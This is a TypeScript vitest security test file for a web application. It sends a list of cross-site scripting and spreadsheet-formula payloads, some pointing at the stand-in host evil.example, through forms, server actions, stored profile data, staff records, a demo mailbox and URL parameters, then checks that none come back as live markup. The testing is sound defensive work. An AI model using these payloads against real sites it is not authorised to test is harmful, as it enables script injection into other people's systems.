import { mkdir, rm, writeFile } from "node:fs/promises";
import { beforeAll, expect, test } from "vitest";
import { sql } from "@/tests/attack/changes";
import { type Action, everyAction } from "@/tests/attack/doors";
import { answersFor, call, sendPlain } from "@/tests/attack/forms";
import { forEach, home, send, whole } from "@/tests/attack/request";
import { actorFor, idOf } from "@/tests/attack/subjects";
import { cookieOf, thePeople } from "@/tests/attack/visitors";
import { aCustomer, aManager, anAdmin, anApplication } from "@/tests/support/make";

const tag = "xss9417";
const bases = [
  `<script>${tag}()</script>`,
  `"><script>${tag}()</script>`,
  `'><img src=x onerror=${tag}()>`,
  `<svg onload=${tag}()>`,
  `<svg/onload=${tag}()//`,
  `<iframe srcdoc="<script>${tag}()</script>">`,
  `</title><script>${tag}()</script>`,
  `</textarea><script>${tag}()</script>`,
  `--><script>${tag}()</script>`,
  `<img src=x oneRRor=${tag}()>`,
  `<body onload=${tag}()>`,
  `<a href="javascript:${tag}()">x</a>`,
  `<math><mi xlink:href="data:x,<script>${tag}()</script>">`,
  `</script><script>${tag}()</script>`,
  `\\u003cscript\\u003e${tag}()`,
  `<!--<script>${tag}()</script>`,
  `<details open ontoggle=${tag}()>`,
  `<input autofocus onfocus=${tag}()>`,
  `<style>@import'javascript:${tag}()'</style>`,
  `{{constructor.constructor('${tag}()')()}}`,
  `\${${tag}()}`,
  `<base href=//evil.example/${tag}>`,
  `<form action=//evil.example/${tag}><button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${tag}()">`,
  `<object data=javascript:${tag}()>`,
  `"onmouseover="${tag}()`,
  `'onclick='${tag}()`,
  `\` onfocus=${tag}() \``,
  `self.__next_f.push([1,"${tag}"])`,
  `"]);${tag}();//`,
  `=cmd|'${tag}'!A0`,
  `+${tag}`,
  `@SUM(${tag})`,
  `-2+3+${tag}`,
];
/** The same in capitals, in other spaces and brackets: some two hundred in all. */
const payloads = bases.flatMap((one) => [
  one,
  one.toUpperCase().replaceAll(tag.toUpperCase(), tag),
  one.replaceAll(" ", "/"),
  one.replaceAll("<", "<\t"),
  one.replaceAll(">", " >"),
  ` ${one}`,
]);
const tried = whole ? payloads : payloads.filter((_one, index) => index % 9 === 0);

let actions: Action[];
beforeAll(async () => {
  actions = await everyAction();
});

/** Markup that came from the payload and not from us: our own pages have neither handlers nor inline scripts without a nonce. */
function live(html: string) {
  const tags = html.match(/<[a-z!/][^>]*>/gi) ?? [];
  const ours = /^<script[^>]* nonce="/;
  return tags
    .filter((one) => one.includes(tag) && !ours.test(one) && !isInert(one))
    .concat(html.match(/<script(?![^>]*nonce)[^>]*>/gi) ?? []);
}

/** A tag of ours that holds the payload inside a quoted value, where it is text. */
const isInert = (markup: string) => !/["'\s]on\w+\s*=\s*(?!["'])/i.test(markup.replace(/="[^"]*"/g, '=""'));

test(`[WB-04] ${tried.length} scripts typed into every text field come back as data, never as a page`, async () => {
  const texts = actions.filter(({ schema }) => Object.keys(schema.shape).length > 0);
  const found = await forEach(texts, async (action, turn) => {
    const actor = await actorFor(action);
    const cookie = await cookieOf(actor);
    const id = await idOf("random", action, actor);
    const fields = Object.keys(action.schema.shape);
    const bad: object[] = [];
    // Shortened, each action meets two of them, in turn.
    for (const payload of whole ? tried : [0, 1].map((more) => tried[(2 * turn + more) % tried.length]!)) {
      const form = { ...answersFor(action, id), ...Object.fromEntries(fields.map((field) => [field, payload])) };
      const { headers, text } = await call(action, form, { cookie });
      // The answer is data for React, never a page of HTML.
      if (!/^text\/x-component/.test(String(headers["content-type"])) && text.includes(tag))
        bad.push({ action: action.name, payload });
    }
    return bad;
  });
  expect(found.flat()).toEqual([]);
}, 900_000);

test(`[WB-04] ${tried.length} scripts sent by forms without script come back as text on their pages`, async () => {
  const forms = [
    ["/register", "mobile", ["email", "mobile"]],
    ["/sign-in", "email", ["email", "next"]],
    ["/forgot-password", "email", ["email"]],
  ] as const;
  const asked = forms.flatMap((form) => tried.map((payload) => ({ form, payload })));
  const found = await forEach(asked, async ({ form: [path, asksFor, fields], payload }) => {
    const typed = Object.fromEntries(fields.map((field) => [field, payload]));
    const { status, text } = await sendPlain(path, asksFor, { ...typed, password: "short" });
    expect({ path, status, back: text.includes(tag) }).toEqual({ path, status: 200, back: true });
    return live(text).map((one) => ({ path, payload, one }));
  });
  expect(found.flat()).toEqual([]);
}, 300_000);

test(`[WB-04] ${tried.length} scripts kept in a profile stay text on every page that shows it`, async () => {
  const save = actions.find(({ name }) => name === "(customer)/profile/[section] saveEmployment")!;
  const saveContact = actions.find(({ name }) => name === "(customer)/profile/[section] saveContact")!;
  const { MANAGER } = await thePeople();
  const found = await forEach(
    tried,
    async (payload) => {
      const customer = await aCustomer();
      const cookie = await cookieOf(customer);
      const form = { ...answersFor(save, ""), employer: payload.slice(0, 60), version: "1" };
      await call(save, form, { cookie });
      const home = { ...answersFor(saveContact, ""), city: payload.slice(0, 30), line: payload, version: "2" };
      await call(saveContact, home, { cookie });
      const pages = await Promise.all([
        send("/profile", { cookie }),
        send("/profile/employment", { cookie }),
        send("/profile/contact", { cookie }),
        send(`/work/customers/${customer.id}`, { cookie: MANAGER.cookie }),
        send("/activity", { cookie }),
      ]);
      return pages.flatMap(({ text }) => live(text)).map((one) => ({ payload, one }));
    },
    3,
  );
  expect(found.flat()).toEqual([]);
}, 300_000);

test("[WB-04] scripts in what a manager writes to a customer stay text for both", async () => {
  const giveBack = actions.find(({ name }) => name === "(manager)/work/applications/[id]/request giveBack")!;
  const found = await forEach(
    whole ? tried : tried.slice(0, 6),
    async (payload) => {
      const [customer, manager] = [await aCustomer(), await aManager()];
      const { id } = await anApplication({ status: "IN_REVIEW", customer, manager });
      const [reader, writer] = [await cookieOf(customer), await cookieOf(manager)];
      await call(giveBack, { ...answersFor(giveBack, id), message: payload }, { cookie: writer });
      const read = await Promise.all([
        send(`/applications/${id}`, { cookie: reader }),
        send("/home", { cookie: reader }),
        send(`/work/applications/${id}`, { cookie: writer }),
      ]);
      expect(read.map(({ text }) => text.includes(tag))).toContain(true);
      return read.flatMap(({ text }) => live(text)).map((one) => ({ payload, one }));
    },
    2,
  );
  expect(found.flat()).toEqual([]);
}, 300_000);

test("[WB-04] scripts in a colleague's name, branch and reason stay text in the lists and in the log", async () => {
  const askReset = actions.find(({ name }) => name === "(admin)/admin/staff/[id] askReset")!;
  const found = await forEach(
    whole ? tried : tried.slice(0, 6),
    async (payload) => {
      const [colleague, admin] = [await aManager(), await anAdmin()];
      const cookie = await cookieOf(admin);
      await sql(`update "User" set "staffName" = $1, branch = $1 where id = $2::uuid`, [payload, colleague.id]);
      await call(askReset, { ...answersFor(askReset, colleague.id), reason: payload }, { cookie });
      const [entry] = await sql<{ seq: string }>(
        `select seq from "OperationLogEntry" where "subjectId" = $1::uuid order by seq desc limit 1`,
        [colleague.id],
      );
      const pages = [
        "/admin/staff",
        `/admin/staff/${colleague.id}`,
        `/admin/staff/${colleague.id}/rights`,
        `/admin/log?q=${encodeURIComponent(payload)}`,
        `/admin/log/${entry!.seq}`,
      ];
      const read = await forEach(pages, (page) => send(page, { cookie }));
      expect(read.map(({ status }) => status)).toEqual(pages.map(() => 200));
      expect(read.filter(({ text }) => text.includes(tag)).length).toBeGreaterThan(2);
      return read.flatMap(({ text }) => live(text)).map((one) => ({ payload, one }));
    },
    2,
  );
  expect(found.flat()).toEqual([]);
}, 300_000);

test("[WB-04] scripts and marks in a letter stay text in the mailbox of the try-out", async () => {
  const folder = process.env.MAILBOX_DIR!;
  await mkdir(folder, { recursive: true });
  const id = "ffffffff-0000-7000-8000-000000000000";
  const all = [...payloads, 'https://evil.example/"onmouseover=xss9417()', `javascript:${tag}()`].join("\n");
  const letter = {
    id,
    to: all,
    subject: `\u202e${all}`,
    text: `${all}\n${home}/security`,
    at: new Date().toISOString(),
  };
  await writeFile(`${folder}/${id}.json`, JSON.stringify(letter));
  const { status, text } = await send("/demo/mail");
  await rm(`${folder}/${id}.json`);
  expect(status).toBe(200);
  expect(text.split(tag).length).toBeGreaterThan(payloads.length);
  expect(live(text)).toEqual([]);
  expect(text).not.toMatch(/href="javascript:/i);
});

test("[WB-04] scripts in addresses stay text on every page", async () => {
  const { MANAGER, ADMIN, CUSTOMER } = await thePeople();
  const pages: [string, string | undefined][] = [
    ["/sign-in", undefined],
    ["/register/verify", undefined],
    ["/work/queue", MANAGER.cookie],
    ["/work/search", MANAGER.cookie],
    ["/admin/sign-ins", ADMIN.cookie],
    ["/admin/customers", ADMIN.cookie],
    ["/apply/documents", CUSTOMER.cookie],
    ["/nowhere", undefined],
    ["/confirm", CUSTOMER.cookie],
  ];
  const names = ["email", "next", "notice", "q", "tab", "after", "back", "refused", "from", "id"];
  const asked = tried.slice(0, whole ? 200 : 8).flatMap((payload) =>
    pages.map(([page, cookie], index) => ({
      page,
      cookie,
      payload,
      name: names[(index + payload.length) % names.length]!,
    })),
  );
  const found = await forEach(asked, async ({ page, cookie, payload, name }) => {
    const { text } = await send(
      `${page}?${name}=${encodeURIComponent(payload)}&email=${encodeURIComponent(payload)}`,
      cookie ? { cookie } : {},
    );
    return live(text).map((one) => ({ page, name, payload, one }));
  });
  expect(found.flat()).toEqual([]);
}, 300_000);
